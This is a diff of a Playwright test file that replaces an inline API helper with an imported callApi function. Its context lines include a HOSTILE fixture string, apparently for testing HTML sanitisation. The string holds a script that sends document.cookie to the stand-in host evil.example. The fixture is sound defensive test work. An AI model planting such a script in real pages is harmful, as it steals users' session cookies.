@@ -1,4 +1,5 @@
 import { expect, test, type APIRequestContext } from '@playwright/test';
+import { callApi } from './api';
 import { startHost, type Host } from './host';
 
 let host: Host;
@@ -7,12 +8,7 @@ test.beforeAll(async () => {
 });
 test.afterAll(async () => host.stop());
 
-async function api<T>(request: APIRequestContext, method: string, input: unknown): Promise<T> {
-  const res = await request.post(`${host.origin}/api/${method}`, { headers: { authorization: `Bearer ${host.token}` }, data: input });
-  const body = (await res.json()) as { ok: boolean; value: T; error?: unknown };
-  if (!body.ok) throw new Error(`${method}: ${JSON.stringify(body.error)}`);
-  return body.value;
-}
+const api = <T>(request: APIRequestContext, method: string, input: unknown) => callApi<T>(request, host, method, input);
 
 const HOSTILE = `<p>您好，<b>请看附件</b></p>
 <script>window.parent.__pwned = 1; fetch('https://evil.example/steal?c=' + document.cookie)</script>
